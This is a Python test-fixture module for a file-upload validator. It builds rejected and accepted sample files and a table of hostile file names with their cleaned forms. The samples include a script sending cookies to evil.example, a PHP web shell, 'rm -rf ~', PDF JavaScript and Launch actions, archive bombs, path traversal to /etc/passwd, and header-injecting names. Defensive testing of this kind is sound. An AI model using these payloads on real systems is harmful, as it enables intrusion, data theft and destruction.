"""Files that somebody might send to do harm, and honest ones beside them; made here, so that nothing harmful is kept."""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile
import zlib

from PIL import Image

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"<script>fetch('https://evil.example/'+document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'


def picture(kind: str = "JPEG", size: tuple[int, int] = (64, 48), mode: str = "RGB", **options: object) -> bytes:
    made = io.BytesIO()
    Image.new(mode, size, 130 if mode in ("L", "P", "1") else "teal").save(made, kind, **options)
    return made.getvalue()


def photo_with_a_place(words: bytes = b"secret") -> bytes:
    """A JPEG that says where it was taken, by whom, and that it lies on its side."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x013B] = words.decode()
    exif.get_ifd(0x8825)[2] = (53.0, 33.0, 0.0)
    return picture(exif=exif.tobytes())


def png_of(width: int, height: int, data: bytes = b"") -> bytes:
    """A PNG that claims a size, whatever it holds."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def pdf(extra: bytes = b"", tail: bytes = b"") -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + extra + b" >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n" + tail
    )


def packed_pdf(objects: bytes, about: bytes = b"/Filter /FlateDecode") -> bytes:
    """A PDF whose objects stand in a packed stream, as newer writers do it."""
    packed = zlib.compress(objects, 9)
    length = str(len(packed)).encode()
    stream = (
        b"5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Length "
        + length
        + b" "
        + about
        + b" >>\nstream\n"
        + packed
        + b"\nendstream\nendobj\n"
    )
    return b"%PDF-1.7\n" + stream + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"


def archive() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("bomb", b"\0" * 100_000)
    return made.getvalue()


def tape() -> bytes:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as packed:
        packed.addfile(tarfile.TarInfo("../../etc/passwd"))
    return made.getvalue()


def heif(brand: bytes) -> bytes:
    return b"\x00\x00\x00\x18ftyp" + brand + b"\x00\x00\x00\x00mif1" + b"\x00" * 64


REFUSED: tuple[tuple[str, bytes, str], ...] = (
    ("nothing.jpg", b"", "empty"),
    ("eicar.txt", EICAR, "infected"),
    ("eicar.pdf", pdf(EICAR), "infected"),
    ("eicar.jpg", picture() + EICAR, "infected"),
    ("goods.zip", archive(), "archive"),
    ("goods.jpg", archive(), "archive"),
    ("empty.zip", b"PK\x05\x06" + b"\0" * 18, "archive"),
    ("letter.docx", archive(), "archive"),
    ("goods.tar", tape(), "archive"),
    ("goods.tar.gz", b"\x1f\x8b\x08\x00" + b"\0" * 20, "archive"),
    ("goods.bz2", b"BZh91AY&SY" + b"\0" * 20, "archive"),
    ("goods.xz", b"\xfd7zXZ\x00" + b"\0" * 20, "archive"),
    ("goods.7z", b"7z\xbc\xaf\x27\x1c" + b"\0" * 20, "archive"),
    ("goods.rar", b"Rar!\x1a\x07\x01\x00" + b"\0" * 20, "archive"),
    ("goods.zst", b"\x28\xb5\x2f\xfd" + b"\0" * 20, "archive"),
    ("goods.cab", b"MSCF" + b"\0" * 20, "archive"),
    ("invoice.exe", b"MZ\x90\x00" + b"\0" * 60, "program"),
    ("invoice.pdf", b"MZ\x90\x00" + b"\0" * 60, "program"),
    ("photo.jpg.scr", b"MZ" + b"\0" * 60, "program"),
    ("tool", b"\x7fELF\x02\x01\x01" + b"\0" * 60, "program"),
    ("tool.class", b"\xca\xfe\xba\xbe" + b"\0" * 60, "program"),
    ("tool.macho", b"\xcf\xfa\xed\xfe" + b"\0" * 60, "program"),
    ("run.sh", b"#!/bin/sh\nrm -rf ~\n", "program"),
    ("goods.lnk", b"L\x00\x00\x00\x01\x14\x02\x00" + b"\0" * 60, "program"),
    ("module.wasm", b"\x00asm\x01\x00\x00\x00", "program"),
    ("photo.heic", heif(b"heic"), "heic"),
    ("photo.jpg", heif(b"mif1"), "heic"),
    ("photo.avif", heif(b"avif"), "heic"),
    ("logo.svg", SVG, "svg"),
    ("logo.png", SVG, "svg"),
    ("logo2.svg", b'<?xml version="1.0"?>\n<!-- x -->' + SVG, "svg"),
    ("logo3.svg", b"\xef\xbb\xbf" + SVG, "svg"),
    ("logo4.svg", SVG.decode().encode("utf-16"), "svg"),
    ("page.html", b"<!DOCTYPE html><p>hello", "markup"),
    ("page.txt", b"\n\n  <html><body>" + SCRIPT, "markup"),
    ("page.csv", b"a,b\n" + SCRIPT, "markup"),
    ("page.php", b"<?php system($_GET['c']); ?>", "markup"),
    ("page.xml", b'<?xml version="1.0"?><!ENTITY a "b">', "markup"),
    ("frame.txt", b"<iframe src=//evil.example>", "markup"),
    ("script.pdf", pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "active"),
    ("hidden.pdf", pdf(b"/OpenAction << /S /J#61vaScript >>"), "active"),
    ("launch.pdf", pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "active"),
    ("inside.pdf", pdf(b"/Names << /EmbeddedFiles 3 0 R >>"), "active"),
    ("form.pdf", pdf(b"/AcroForm << /XFA 3 0 R >>"), "active"),
    ("movie.pdf", pdf(b"/Type /RichMedia"), "active"),
    ("packed-script.pdf", packed_pdf(b"1 0 << /S /JavaScript /JS (app.alert(1)) >>"), "active"),
    ("packed-spelt.pdf", packed_pdf(b"1 0 << /S /#4aavaScript >>"), "active"),
    ("packed-otherwise.pdf", packed_pdf(b"1 0 << >>", b"/Filter /LZWDecode"), "active"),
    ("packed-bomb.pdf", packed_pdf(b"\0" * 17 * 1024 * 1024), "too-large"),
    ("packed-noise.pdf", packed_pdf(b"x").replace(b"stream\nx", b"stream\n!"), "broken"),
    ("locked.pdf", pdf(b"/Encrypt 7 0 R"), "locked"),
    ("macros.docm", archive(), "archive"),
    ("macros.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Macros" * 20, "unknown-type"),
    ("zip-behind.pdf", pdf(tail=archive()), "two-in-one"),
    ("page-behind.pdf", pdf(tail=SCRIPT * 4), "two-in-one"),
    ("half.pdf", b"%PDF-1.7\n1 0 obj\n<<", "broken"),
    ("half.jpg", picture(size=(640, 480))[:400], "broken"),
    ("half.png", picture("PNG")[:40], "broken"),
    ("three-bytes.jpg", b"\xff\xd8\xff", "broken"),
    ("script.jpg", b"\xff\xd8\xff\xe0" + SCRIPT, "broken"),
    ("script.webp", b"RIFF\x40\x00\x00\x00WEBP" + SCRIPT, "broken"),
    ("no-pixels.png", png_of(20, 20), "broken"),
    ("null.png", png_of(0, 0), "broken"),
    ("bomb.png", png_of(50_000, 50_000, zlib.compress(b"\0" * 1_000)), "too-many-pixels"),
    ("large.png", png_of(10_001, 5_000, zlib.compress(b"\0" * 1_000)), "too-many-pixels"),
    ("wide.png", png_of(2_000_000_000, 2, b"x"), "too-many-pixels"),
    ("icon.gif", b"GIF89a" + b"\0" * 40, "unknown-type"),
    ("icon.bmp", b"BM" + b"\0" * 60, "unknown-type"),
    ("scan.tiff", b"II*\x00" + b"\0" * 60, "unknown-type"),
    ("letter.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 60, "unknown-type"),
    ("clip.mp4", b"\x00\x00\x00\x18ftypisom" + b"\0" * 60, "unknown-type"),
    ("noise.txt", bytes(range(1, 256)), "unknown-type"),
    ("nul.csv", b"sku,name\n1,a\x00b\n", "unknown-type"),
    ("latin.csv", "sku,name\n1,Müller\n".encode("latin-1"), "unknown-type"),
    ("long.txt", b"a" * (5 * 1024 * 1024 + 1), "too-large"),
)
"""Name, content, why it is not taken."""

TAKEN: tuple[tuple[str, bytes, str, str], ...] = (
    ("photo.jpg", picture(), "photo", "image/jpeg"),
    ("photo.exe", picture(), "photo", "image/jpeg"),
    ("grey.jpg", picture(mode="L"), "photo", "image/jpeg"),
    ("cmyk.jpg", picture(mode="CMYK"), "photo", "image/jpeg"),
    ("two-in-one.jpg", picture() + archive(), "photo", "image/jpeg"),
    ("page-behind.jpg", picture() + SCRIPT, "photo", "image/jpeg"),
    ("card.png", picture("PNG"), "photo", "image/png"),
    ("clear.png", picture("PNG", mode="RGBA"), "photo", "image/png"),
    ("colours.png", picture("PNG", mode="P"), "photo", "image/png"),
    ("card.webp", picture("WEBP"), "photo", "image/webp"),
    ("long.png", picture("PNG", size=(2_000, 20)), "document", "image/png"),
    ("packed.pdf", packed_pdf(b"1 0 << /Type /Catalog /Pages 2 0 R >>"), "document", "application/pdf"),
    ("contract.pdf", pdf(), "document", "application/pdf"),
    ("with-a-line.pdf", pdf(tail=b"\r\n\r\n"), "document", "application/pdf"),
    ("notes.txt", "Grüße: 5 < 6, 中文, مرحبا\n".encode(), "document", "text/plain"),
    ("goods.csv", b"sku,name\n1,Steel\n", "document", "text/csv"),
    ("excel.csv", "sku;name\n1;Müller\n".encode("utf-8-sig"), "document", "text/csv"),
    ("wide.txt", "hello".encode("utf-16"), "document", "text/plain"),
)
"""Name, content, kind, type."""

NAMES: tuple[tuple[str, str, str], ...] = (
    ("../../etc/passwd", "text/plain", "passwd.txt"),
    ("..\\..\\windows\\system32\\cmd.exe", "application/pdf", "cmd.pdf"),
    ("/absolute/label.jpg", "image/jpeg", "label.jpg"),
    ("C:\\label.JPEG", "image/jpeg", "label.jpeg"),
    ("photo.jpg.exe", "image/jpeg", "photo.jpg.jpg"),
    ("inv\u202egpj.exe", "image/jpeg", "invgpj.jpg"),
    ("a\r\nContent-Type: text/html\r\n\r\n.pdf", "application/pdf", "html.pdf"),
    ('label";filename="x.sh', "image/png", "label ;filename= x.png"),
    ("con.txt", "text/plain", "_con.txt"),
    ("NUL", "text/csv", "_NUL.csv"),
    ("...", "image/jpeg", "photo.jpg"),
    ("", "application/pdf", "document.pdf"),
    ("   .pdf", "application/pdf", "pdf.pdf"),
    ("x" * 300 + ".pdf", "application/pdf", "x" * 74 + ".pdf"),
    ("a\x00b.csv", "text/csv", "ab.csv"),
    ("прайс лист.csv", "text/csv", "прайс лист.csv"),
    ("合同.pdf", "application/pdf", "合同.pdf"),
)
"""What it was called, what it is, what it is called afterwards."""
